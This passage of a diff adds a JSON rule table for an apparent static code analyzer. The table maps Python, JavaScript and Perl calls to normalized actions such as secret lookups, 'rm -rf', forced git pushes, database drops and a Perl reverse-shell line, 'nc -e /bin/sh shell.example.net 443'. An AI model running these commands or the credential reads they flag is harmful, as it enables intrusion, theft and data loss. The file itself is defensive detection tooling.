+$0","zarr.open":"made store $0","zarr.open_group":"made store $0","tinydb.TinyDB":"made store $0","twine.commands.upload.main":"run twine upload x","twine.comma\
+nds.upload.upload":"run twine upload x","configparser.ConfigParser":"made config","configparser.RawConfigParser":"made config","sqlalchemy.update":"made whole-u\
+pdate","sqlalchemy.sql.update":"made whole-update","crontab.CronTab":"if-option:tab if-no-sign:installs-cron made mock | made crontab","secretstorage.get_defaul\
+t_collection":"run secret-tool lookup x","secretstorage.get_all_collections":"run secret-tool lookup x","secretstorage.search_items":"run secret-tool lookup x",\
+"browser_cookie3.chrome":"run secret-tool lookup x","browser_cookie3.firefox":"run secret-tool lookup x","browser_cookie3.edge":"run secret-tool lookup x","brow\
+ser_cookie3.load":"run secret-tool lookup x","dulwich.porcelain.push":"if-option:force=True run git push --force","dulwich.porcelain.reset":"if-says:hard$|Hard$\
+|HARD$ run git reset --hard","git_filter_repo.RepoFilter":"run git filter-repo --force","git.Head.delete":"if-option:force=True run git branch -D","psycopg.sql.\
+SQL":"value $0","psycopg2.sql.SQL":"value $0","sql.SQL":"value $0","asyncio.wait_for":"value $0","vars":"value $0","os.path.expanduser":"value $0","text":"value\
+ $0","sqlalchemy.text":"value $0","staticmethod":"value $0","classmethod":"value $0","asyncio.gather":"value $0..","__import__":"module $0","importlib.import_mo\
+dule":"module $0","getattr":"attribute $0 $1","enumerate":"numbered $0","dotenv.set_key":"write $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip"\
+:"rows","itertools.zip_longest":"rows","itertools.chain":"flat","itertools.chain.from_iterable":"flat $0","operator.attrgetter":"value","globals":"name builtins\
+","functools.partial":"made bound $0 $1..","git.Repo":"made git $0","git.repo.Repo":"made git $0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git \
+$0","pygit2.Repository":"made git $0","pygit2.init_repository":"made git $0","unittest.mock.MagicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mo\
+ck":"mock","unittest.mock.NonCallableMock":"mock","unittest.mock.create_autospec":"mock","unittest.mock.mock_open":"mock","OSError":"made error","IOError":"made\
+ error","FileNotFoundError":"made error","PermissionError":"made error","RuntimeError":"made error","ValueError":"made error","KeyError":"made error","TypeError\
+":"made error","TimeoutError":"made error","ConnectionError":"made error","Exception":"made error","subprocess.CalledProcessError":"made error","subprocess.Time\
+outExpired":"made error","unittest.mock.patch":"patcher $0:target $1:new","unittest.mock.patch.object":"patcher $0:target $1:attribute $2:new","setattr":"imitat\
+e $0 $1 $2","pytest.MonkeyPatch":"made monkeypatch","moto.mock_aws":"if-no-sign:keeps-real if-no-sign:other-imports patcher services","botocore.stub.Stubber":"i\
+f-no-sign:keeps-real if-no-sign:other-imports if-no-sign:several-clients patcher services","responses.activate":"if-no-sign:keeps-real if-no-sign:other-requests\
+ patcher requests","responses.RequestsMock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-\
+no-sign:other-requests patcher requests","requests_mock.mock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","respx.mock":"if-no-sign:keeps-\
+real if-no-sign:besides-httpx patcher requests","pyfakefs.fake_filesystem_unittest.Patcher":"if-no-sign:keeps-real if-no-sign:other-files patcher files","fsspec\
+.filesystem":"if-says:^memory$ made mock","operator.methodcaller":"made message $0 $1..","string.Template":"made template $0","email.message.EmailMessage":"made\
+ mail","email.mime.text.MIMEText":"made mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_password":"secret","keyring.get_credential":"secret"\
+,"netrc.netrc":"secret","dict":"from-pairs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTransport":"made mock","chromadb.EphemeralClient":"made m\
+ock","sqlalchemy.create_mock_engine":"made mock","duckdb.connect":"if-none made database :memory: | made database $0:database","shlex.split":"split $0","json.lo\
+ads":"parse-json $0","tempfile.mktemp":"value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryDirectory":"new-folder","sqlalchemy.delete":"made \
+whole","sqlalchemy.sql.delete":"made whole","sqlalchemy.sql.expression.delete":"made whole","alembic.command.downgrade":"run alembic downgrade $1:revision","inv\
+oke.run":"shell $0","os.path.join":"join $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","pathlib.Path.home":"value ~","pathlib.Path.cwd":"valu\
+e .","os.getcwd":"value .","os.getenv":"environment $0 $1:default","os.environ.get":"environment $0 $1:default","os.environ.copy":"environment $0 $1:default","o\
+s.path.dirname":"dirname $0","tempfile.mkstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","glob.glob":"glob $0","glob.iglob":"glob $0","code\
+cs.decode":"decode $0 $1","shutil.make_archive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connect $all","sqlite3.connect":"made database $0","soc\
+ket.socket":"made socket","socket.gethostbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dns.resolver.query":"run nslookup $0","smtplib.SMTP\
+":"made connection","smtplib.SMTP_SSL":"made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made connection","httpx.Client":"made rest $:base_url"\
+,"httpx.AsyncClient":"made rest $:base_url","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitepackages":"value ~/.local/lib/python3/site-package\
+s","paramiko.Transport":"made ssh","paramiko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.SerialGroup":"made ssh","fabric.ThreadingGroup":"made \
+ssh","invoke.Context":"made ssh","http.client.HTTPSConnection":"made http","http.client.HTTPConnection":"made http","urllib.request.urlopen":"request GET $0:url\
+ $1:data","urllib.request.Request":"if-option:method open-request $:method $0:url $1:data | made request $0:url $1:data","urllib.request.urlretrieve":"run curl \
+-o $1 $0","requests.request":"request $0 $1:url $:data $:json $:files $:content","requests.get":"request GET $0:url $:data $:json $:files $:content $:params","h\
+ttpx.get":"request GET $0:url $:data $:json $:files $:content $:params","requests.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","httpx\
+.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","requests.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","httpx.\
+put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","requests.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","httpx\
+.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","requests.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params"\
+,"httpx.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","requests.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:pa\
+rams","httpx.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","requests.Session":"name requests","requests.session":"name requests","aioh\
+ttp.ClientSession":"name requests","winreg.DeleteKey":"run reg delete $1","django.core.management.call_command":"run django-admin $0","call_command":"run django\
+-admin $0","numpy.save":"write $1","torch.save":"write $1","joblib.dump":"write $1"},"methods":{"splitlines":"if-text split $self \\n","reset":"if-made:git if-sa\
+ys:hard$|Hard$|HARD$ run git reset --hard | if-git if-option:working_tree=True run git reset --hard","to_sql":"if-kept if-sign:database-address if-option:if_exi\
+sts=replace run sql drop-table $0","push":"if-option:dry_run value | if-option:force=True if-git run git push --force origin | if-option:force=True if-owner:^(o\
+rigin|remotes|remote)\\\\b|\\\\.remotes?\\\\b run git push --force origin | if-option:refspec run git push origin $:refspec","remove_volume":"run docker volume rm $0"\
+,"prune_volumes":"run docker volume prune -af","delete_head":"if-git if-option:force=True run git branch -D","remote":"if-git value $self","delete_tag":"if-git \
+run git tag -d","checkout_head":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout_index":"if-git if-arg:li\
+st run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$\
+ run git checkout -f","put":"if-made:sftp run scp -r $0 host:/x","new":"if-made:crontab run crontab -","write":"if-made:crontab run crontab - | send $self $0","\
+write_to_user":"if-made:crontab run crontab -","unlink":"if-made:library run rm $0 | if-gets:keys run sql flush FLUSHDB | if-made:sftp run cloud-sdk delete | ru\
+n rm $self","remove":"if-made:library run rm $0 | if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if-made:library\
+ run rm $0 | if-made:sftp run cloud-sdk delete | run rmdir $self","add":"if-made:written read $0 | if-list append $self $all","get_frozen_credentials":"run aws \
+configure export-credentials","PowerOff":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-name:objects made some-rows","excl\
+ude":"if-name:objects made some-rows","delete":"if-made:some-rows run sql delete-some rows | if-gets:keys run sql flush FLUSHDB | if-made:connection run cloud-s\
+dk delete | if-made:rest request-over DELETE $0 | if-git if-owner:^(references|branches|local|heads|tags)$ run git update-ref -d refs/heads/x","update":"if-made\
+:some-rows run sql delete-some rows | if-name:objects run sql update-all rows | if-made:rows run sql update-all rows | if-list append $self $all","rmd":"if-made\
+:connection run cloud-sdk delete","open_sftp":"if-made:ssh made sftp","rm":"if-option:recursive=True run cloud-sdk delete","run":"if-made:ssh shell $0 | if-name\
+:containers docker-run | sql $0:query:sql","sudo":"if-made:ssh shell $0","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored \
+entries keys","rmtree":"run rm -rf $self","read_text":"read $self","read_bytes":"read $self","write_text":"write $self $0:data","write_bytes":"write $self $0:da\
+ta","chmod":"chmod $self $0:mode","walk":"if-text walk $self","read":"if-made:config read $0 | lines $self","set_content":"if-made:mail transfer sendmail $0 x",\
+"attach":"if-made:mail transfer sendmail $0 x","add_attachment":"if-made:mail transfer sendmail $0 x","substitute":"if-made:template format $origin","safe_subst\
+itute":"if-made:template format $origin","values":"if-made:whole-update value $self | if-map values $self","execution_options":"if-made:whole-update value $self\
+","append":"if-list append $self $all","appendleft":"if-list append $self $all","extend":"if-list append $self $all","insert":"if-list append $self $all","creat\
+e":"if-name:containers docker-run","touch":"if-text run touch $self","rename":"if-text run mv $self $0","replace":"if-text if-args:2 replace $self $0 $1 | if-te\
+xt if-args:1 run mv $self $0","symlink_to":"run ln -s $0 $self","open":"if-text open $self $0:mode","writelines":"send $self $0","send":"send $self $0","sendall\
+":"send $self $0","sendfile":"send $self $0","readlines":"value $self","communicate":"value $self","expanduser":"value $self","resolve":"value $self","absolute"\
+:"value $self","as_posix":"value $self","readline":"any-of $self","text":"value $0","glob":"glob $self $0","rglob":"glob $self ** $0","iterdir":"folder $self","\
+connect":"if-made connect $all","connect_ex":"connect $all","sendto":"transfer nc $0 $1","sendmail":"if-made transfer sendmail $2 $self","send_message":"if-made\
+ transfer sendmail $0 $self","storbinary":"if-made transfer ftp $1 $self","request":"request-over $0 $1 $2 $:body $:data $:json","exec_command":"shell $0","syst\
+em":"if-made:library shell $0","kill":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -KILL $:pid | if-made:psutil.Process run kill -K\
+ILL $origin","terminate":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -TERM $:pid | if-made:psutil.Process run kill -TERM $origin",\
+"execute":"if-made:pending-delete run sql delete-all rows | sql $0:query:sql","write_database":"if-kept if-sign:database-address if-option:if_table_exists=repla\
+ce run sql drop-table $0","sql":"sql $0:query:sql","executescript":"sql $0:query:sql","executemany":"sql $0:query:sql","execute_query":"sql $0:query:sql","comma\
+nd":"sql $0:query:sql","execute_sql":"sql $0:query:sql","execute_async":"sql $0:query:sql","cursor":"if-made:database value $self","get":"entry $self $0 $1","it\
+ems":"if-map pairs $self","add_argument":"declare-option $:default","start":"start-patcher","__enter__":"start-patcher","setattr":"if-made:monkeypatch imitate $\
+0 $1 $2","parse_args":"options","parse_known_args":"options","list":"if-name:volumes entries docker-volume","prune":"if-name:volumes run docker volume prune -af\
+"}},"javascript":{"lexer":{"comment":["//"],"block_comment":["/*","*/"],"sigils":"$#","interpolation":"template","triple":false,"single_escapes":true,"quoting":\
+"none","patterns":true,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"f\
+unction_keywords":["function"],"inputs":{"process.argv":"node-argv","Bun.argv":"node-argv","Deno.args":"args","process.env":"environment","Bun.env":"environment\
+","process.stdin":"text"},"unknown":["process.pid"],"sdks":["aws-sdk.","aws-sdk/","@aws-sdk/","@google-cloud/","googleapis","firebase-admin","@azure/","@kuberne\
+tes/","stripe","@octokit/","octokit","@slack/","@gitbeaker/","heroku-client","cloudflare","@vercel/","@netlify/","netlify","@elastic/","@opensearch-project/","m\
+inio","@pinecone-database/","@qdrant/","weaviate","algoliasearch","meilisearch","typesense","kafkajs","auth0","@okta/","@shopify/","twilio","@sendgrid/","@supab\
+ase/","node-appwrite","dots-wrapper","contentful-management","@digitalocean/","hcloud-js","@linode/","oci-","@alicloud/","tencentcloud-sdk","openai","@pulumi/",\
+"@notionhq/","jira.js","@linear/","@datadog/","@launchdarkly/","@sanity/client","replicate","cloudinary","@mux/","imagekit","@mailchimp/","mailgun","@hubspot/",\
+"intercom-client","node-zendesk","@atlassian/","@clerk/","@contentful/","@storyblok/","@directus/","@strapi/","@neondatabase/api-client","@logtail/","bun.S3Clie\
+nt","Bun.S3Client","Bun.s3"],"texts":{"__dirname":".","__filename":"./program.js","path.sep":"/","process.execPath":"node"},"rewrites":[["\\\\.(?:promises|default\
+)(?=\\\\.|$)|\\\\.wrappedMethod$",""],["^(?:fs/promises|graceful-fs)","fs"],["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModule|this|process)\\\\.(?=gl\
+obalThis|global|process|require|module|constructor|eval|Function|mainModule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\\\\.(\\\\w+?)Sync$","$1.$2"\
+],["^(?:bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(?:vitest|@jest/globals)\\\\.(?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],["^\\\\.{1,2}/(?:[\\\\w./-]*\
+[./])?(?:db|knex)$","knex"],["^drizzle-orm/[\\\\w-]+\\\\.drizzle$","drizzle"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^(?:.*\\\\.)?constructor\\\\.\
+constructor$|^(?:Async|Generator)Function$","Function"]],"functions":{"console.log":"print","console.info":"print","process.stdout.write":"print","require":"mod\
+ule $0","import":"module $0","process.getBuiltinModule":"module $0","process.binding":"module $0","jest.requireActual":"module $0","vi.importActual":"module $0"\
+,"createRequire":"name require","module.createRequire":"name require","eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewContext":"eval $0","vm.runInC\
+ontext":"eval $0","vm.Script":"made vm-script $0","Function":"eval $last","setTimeout":"if-arg:text eval $0","child_process.exec":"shell $0","execa.execaCommand\
+":"shell $0","shelljs.exec":"shell $0","$":"shell $0","Bun.$":"shell $0","execa":"if-arg:map name $ | spawn $0 $1:args $:shell","execa.execa":"if-arg:map name $\
+ | spawn $0 $1:args $:shell","child_process.spawn":"spawn $0 $1:args $:shell","child_process.execFile":"spawn $0 $1:args $:shell","Deno.Command":"spawn $0 $1:ar\
+gs $:shell","child_process.fork":"run node $0","shelljs.rm":"run rm $all","Bun.spawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:stdin:input","Bun.\
+write":"write $0 $1","Deno.writeTextFile":"write $0 $1","Deno.writeFile":"write $0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1","Uint8Array":"\
+empty-text","Buffer.alloc":"empty-text","Deno.execPath":"value deno","libnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publish":"run npm publish $\
+0","ps-list":"if-none entries any-process","find-process":"if-none entries any-process","fkill":"run pkill -f $0","keytar.findCredentials":"run secret-tool look\
+up x","keytar.getPassword":"run secret-tool lookup x","keytar.findPassword":"run secret-tool lookup x","level.Level":"made store $0:path","level":"made store $0\
+:path","lmdb.open":"made store $0:path","classic-level.ClassicLevel":"made store $0:path","rocksdb":"made store $0:path","leveldown":"made store $0:path","nedb"\
+:"made store $:filename","@seald-io/nedb":"made store $:filename","bun.Glob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-says:^https made service\
+","ssh2-sftp-client":"made sftp","isomorphic-git.deleteTag":"if-real run git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git branch -D $:ref","isom\
+orphic-git.checkout":"if-real if-option:force=true run git checkout -f","isomorphic-git.push":"if-option:force=true run git push --force $:remote $:ref","nodegi\
+t.Reset.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","fs.appendFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.createReadStream":"read $\
+0","Bun.file":"read $0","Deno.remove":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run\
+ rm $0","fs.rm":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.unlink":"r\
+un rm $0","fs.rmdir":"if-option:recursive run rm -r $0 | run rmdir $0","fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extra.remove":"run rm -rf $\
+0","fs-extra.emptyDir":"run rm -rf $0","fs.createWriteStream":"open $0 w","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.truncate":"run truncate \
+-s 0 $0","Deno.truncate":"run truncate -s 0 $0","del.deleteAsync":"remove-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryRun","del.del":"remove-m\
+atches $0 $:dryRun","del":"remove-matches $0 $:dryRun","trash":"remove-matches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"remove-matches $0","rimraf\
+":"remove-matches $0","fs.mkdtemp":"new-folder","Deno.makeTempDir":"new-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git $0:baseDir","simple-gi\
+t":"made git $0:baseDir","simple-git.default":"made git $0:baseDir","better-sqlite3":"made database $0","better-sqlite3.default":"made database $0","sqlite.Data\
+baseSync":"made database $0","bun:sqlite.Database":"made database $0","fs.rename":"run mv $0 $1","fs.move":"run mv $0 $1","fs.copyFile":"run cp $0 $1","fs.cp":"\
+run cp -r $0 $1","fs.copy":"run cp -r $0 $1","fs.symlink":"run ln -s $0 $1","fs.link":"run ln $0 $1","fs.chmod":"chmod $0 $1","fs.chown":"run chown $1 $0","fs.l\
+chown":"run chown $1 $0","fs.readdir":"if-option:withFileTypes=true calls-back dirents $0 | calls-back names $0","Deno.readDir":"calls-back names $0","fs.glob":\
+"globs $0 $:cwd","glob.sync":"globs $0 $:cwd","glob.globSync":"globs $0 $:cwd","glob.glob":"globs $0 $:cwd","glob":"globs $0 $:cwd","globby.globby":"globs $0 $:\
+cwd","globby.globbySync":"globs $0 $:cwd","globby":"globs $0 $:cwd","fast-glob":"globs $0 $:cwd","fast-glob.sync":"globs $0 $:cwd","tinyglobby.glob":"globs $0 $\
+:cwd","tinyglobby.globSync":"globs $0 $:cwd","Object.entries":"pairs $0","Object.values":"values $0","Object.keys":"keys $0","Reflect.ownKeys":"keys $0","path.d\
+irname":"dirname $0","ssh2.Client":"made ssh","node-ssh.NodeSSH":"made ssh","process.kill":"kill $0 $1","process.setuid":"run setuid $0","process.setgid":"run s\
+etgid $0","process.cwd":"value .","Deno.cwd":"value .","JSON.parse":"parse-json $0","os.homedir":"value ~","Deno.env.toObject":"environment","Deno.env.get":"env\
+ironment $0","path.join":"join-parts","path.posix.join":"join-parts","path.resolve":"join $all","fetch":"open-request $:method=GET $0:url:hostname:host $:body $\
+:data $:json","http.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","https.request":"open-request $:method=GET $0:url:hostname:ho\
+st $:body $:data $:json","axios":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","got":"open-request $:method=GET $0:url:hostname:host $:b\
+ody $:data $:json","ky":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","node-fetch":"open-request $:method=GET $0:url:hostname:host $:bod\
+y $:data $:json","request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.fetch":"open-request $:method=GET $0:url:hostname:host \
+$:body $:data $:json","undici.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios.request":"open-request $:method=GET $0:url:h\
+ostname:host $:body $:data $:json","http.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","https.get":"calls-back request GET $0:url:host\
+name:host $:body $:data $:json","axios.get":"request GET $0:url:hostname:host $:body $:data $:json","got.get":"request GET $0:url:hostname:host $:body $:data $:\
+json","ky.get":"request GET $0:url:hostname:host $:body $:data $:json","superagent.get":"request GET $0:url:hostname:host $:body $:data $:json","needle.get":"re\
+quest GET $0:url:hostname:host $:body $:data $:json","$.get":"request GET $0:url:hostname:host $:body $:data $:json","axios.post":"open-request POST $0:url:host\
+name:host $:body $:data $:json $1","got.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","ky.post":"open-request POST $0:url:hostname:host\
+ $:body $:data $:json $1","superagent.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","needle.post":"open-request POST $0:url:hostname:ho\
+st $:body $:data $:json $1","$.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","axios.put":"open-request PUT $0:url:hostname:host $:body \
+$:data $:json $1","got.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","ky.put":"open-request PUT $0:url:hostname:host $:body $:data $:json\
+ $1","superagent.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","needle.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $\
+1","$.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","axios.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","got.\
+patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","ky.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","superagen\
+t.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","needle.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","$.p\
+atch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","axios.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","got.d\
+elete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","ky.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","supera\
+gent.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","needle.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $\
+1","$.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","net.connect":"calls-back connect $1:host=localhost $0:port","net.createConnect\
+ion":"calls-back connect $1:host=localhost $0:port","tls.connect":"calls-back connect $1:host=localhost $0:port","net.Socket":"made client","Buffer.from":"decod\
+e $0 $1","Buffer":"decode $0 $1","dns.lookup":"run nslookup $0","db.dropDatabase":"run sql drop-database db","knex":"if-arg:map if-no-sign:connects made mock | \
+made rows","@electric-sql/pglite.PGlite":"if-none made mock","aws-sdk-client-mock.mockClient":"mock-class $0","test.mock.method":"spy $0 $1 $2","jest.spyOn":"sp\
+y $0 $1 $2","vi.spyOn":"spy $0 $1 $2","sinon.spy":"spy $0 $1 $2","sinon.stub":"if-none mock | spy $0 $1 $2 stub","sinon.replace":"imitate $0 $1 $2","sinon.creat\
+eSandbox":"name sinon","jest.fn":"mock","vi.fn":"mock","sinon.fake":"mock","test.mock.fn":"mock","msw/node.setupServer":"made msw","@testcontainers/postgresql.P\
+ostgreSqlContainer":"made container","pg.Pool":"if-gets:container if-no-sign:reads-environment made database :memory:","pg.Client":"if-gets:container if-no-sign\
+:reads-environment made database :memory:","nock.disableNetConnect":"if-no-sign:besides-http if-unset:NOCK_OFF imitate requests","drizzle":"made drizzle","sql":\
+"sql $0","bun.sql":"sql $0","Bun.sql":"sql $0","kysely.sql":"sql $0","WebSocket":"made connection $0","ws":"made connection $0","ws.WebSocket":"made connection \
+$0","pm2.delete":"run pm2 delete $0","Object.fromEntries":"from-pairs $0","worker_threads.Worker":"if-option:eval=true eval $0","Worker":"if-option:eval=true ev\
+al $0","URL":"if-args:2 value $self | value $0","fs.opendir":"calls-back dirents $0","Proxy":"made proxy $1","node-linux.Service":"made service","node-windows.S\
+ervice":"made service","node-mac.Service":"made service","memfs.memfs":"made mock","memfs.createFsFromVolume":"made mock","drizzle-orm.sql":"value $0","Promise.\
+all":"value $0","Promise.allSettled":"value $0","util.promisify":"value $0","Map":"value $0","Set":"value $0","std.walk":"folder $0 below","std.expandGlob":"fol\
+der $0 below","Reflect":"value","Reflect.get":"attribute $0 $1","Reflect.apply":"invoke $0 $2"},"methods":{"write":"send $self $0 append","send":"send $self $0 \
+append","install":"if-made:service run systemctl enable --now x","end":"if-args:1 send $self $0 append","connect":"if-made:client calls-back connect $1:host=loc\
+alhost $0:port","pipe":"pipe $self $0","pipeTo":"pipe $self $0","on":"listen $self $0 $1","once":"listen $self $0 $1","addListener":"listen $self $0 $1","emit":\
+"emit $0 $1..","then":"then","finally":"then","method":"if-owner:^mock$ spy $0 $1 $2","start":"if-made:container value $self","getConnectionUri":"if-made:contai\
+ner value $self","mockImplementation":"answer-spy $0","callsFake":"answer-spy $0","mockReturnValue":"answer-spy $0 returned","mockResolvedValue":"answer-spy $0 \
+returned","mockRejectedValue":"answer-spy $0 returned","returns":"answer-spy $0 returned","resolves":"answer-spy $0 returned","rejects":"answer-spy $0 returned"\
+,"listen":"if-made:msw if-option:onUnhandledRequest=error if-no-sign:besides-fetch imitate requests","close":"if-made:msw end-imitation requests","toString":"va\
+lue $self","text":"value $self","json":"value $self","unref":"value $self","bind":"made bound $self $1..","delete":"if-made:drizzle if-no-sign:limits run sql de\
+lete-all rows | if-database if-arg:name if-no-sign:limits run sql delete-all $owner","destroy":"if-option:truncate=true run sql truncate rows | if-option:where=\
+{} run sql delete-all rows","getVolume":"made docker-volume","scan":"if-made:glob globs $origin","scanSync":"if-made:glob globs $origin","runInThisContext":"if-\
+made:vm-script eval $origin","runInNewContext":"if-made:vm-script eval $origin","runInContext":"if-made:vm-script eval $origin","push":"if-list append $self $al\
+l","unshift":"if-list append $self $all","splice":"if-list append $self $all","put":"if-made:sftp run scp -r $0 host:/x","fastPut":"if-made:sftp run scp -r $0 h\
+ost:/x","uploadDir":"if-made:sftp run scp -r $0 host:/x","deleteLocalBranch":"if-git if-says:^true$ run git branch -D","deleteLocalBranches":"if-git if-says:^tr\
+ue$ run git branch -D","sendMail":"sends-files","sendCommand":"if-stored program redis-cli $all","pipeline":"if-stored program redis-cli $all","multi":"if-store\
+d program redis-cli $all","scanStream":"if-stored entries keys","scanIterator":"if-stored entries keys","keys":"if-stored if-args:1 entries keys","del":"if-gets\
+:keys run sql flush FLUSHDB | if-made:rows run sql delete-all rows","unlink":"if-gets:keys run sql flush FLUSHDB","update":"if-made:rows if-no-sign:limits run s\
+ql update-all rows","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --hard","clean":"if-made:git if-says:^n[dfxq]*$|^-\\\\w*n\\\\w*$|DRY_RUN$ run git c\
+lean -n | if-made:git run git clean -fd","rollback":"if-name:migrate if-args:2 run sql drop-table rows","exec":"if-made:ssh shell $0 | sql $0:query:sql:text","e\
+xecCommand":"if-made:ssh shell $0","remove":"if-made:docker-volume run docker volume rm $self | if-database if-empty run sql delete-all $owner","pruneVolumes":"\
+run docker volume prune -af","drop":"if-database run sql drop-collection $owner","query":"sql $0:query:sql:text","execute":"sql $0:query:sql:text","$executeRawU\
+nsafe":"sql $0:query:sql:text","$executeRaw":"sql $0:query:sql:text","$queryRawUnsafe":"sql $0:query:sql:text","$queryRaw":"sql $0:query:sql:text","run":"sql $0\
+:query:sql:text","prepare":"sql $0:query:sql:text","raw":"sql $0:query:sql:text","unsafe":"sql $0:query:sql:text","command":"sql $0:query:sql:text","batch":"sql\
+ $0:query:sql:text","executeQuery":"sql $0:query:sql:text","sync":"if-option:force=true run sql drop-table rows","getSiblingDB":"name db","getSisterDB":"name db\
+","getDB":"name db","getCollection":"name db.collection","explain":"name cache","runCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop r\
+un sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","adminCommand":"if-option:dro\
+pDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase\
+ run sql drop-user all","dropUser":"if-database run sql drop-user $owner","dropAllUsers":"if-database run sql drop-user $owner","shutdownServer":"if-database ru\
+n sql shutdown $owner","truncate":"if-made:rows run sql delete-all rows"}},"perl":{"lexer":{"comment":["#"],"sigils":"$@%","interpolation":"dollar","triple":fal\
+se,"single_escapes":false,"quoting":"q","heredoc":"<<~?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","patterns":true,"lines":"none"},"program":"perl","blocks":"braces",\
+"member_operators":["->","::"],"concatenation_operators":[".","x"],"bare_calls":true,"function_keywords":["sub"],"inputs":{"@ARGV":"args","$ARGV":"args","\\"@ARG\
+V\\"":"joined-args","$ENV":"environment","%ENV":"environment","$_":"text","STDIN":"text"},"unknown":["STDIN"],"texts":{"$0":"./program.pl"},"rewrites":[["^&",""]\
+],"functions":{"tempdir":"value /tmp/\\ufffc","File.Temp.tempdir":"value /tmp/\\ufffc","File.Temp.newdir":"value /tmp/\\ufffc","getcwd":"value .","Cwd.getcwd":"val\
+ue .","Cwd.cwd":"value .","values":"values $0","shift":"take $0","pop":"take $0","print":"print text","say":"print line","readline":"input","system":"if-sign:so\
+cket-shell run nc -e /bin/sh shell.example.net 443 | command $all","exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.sy\
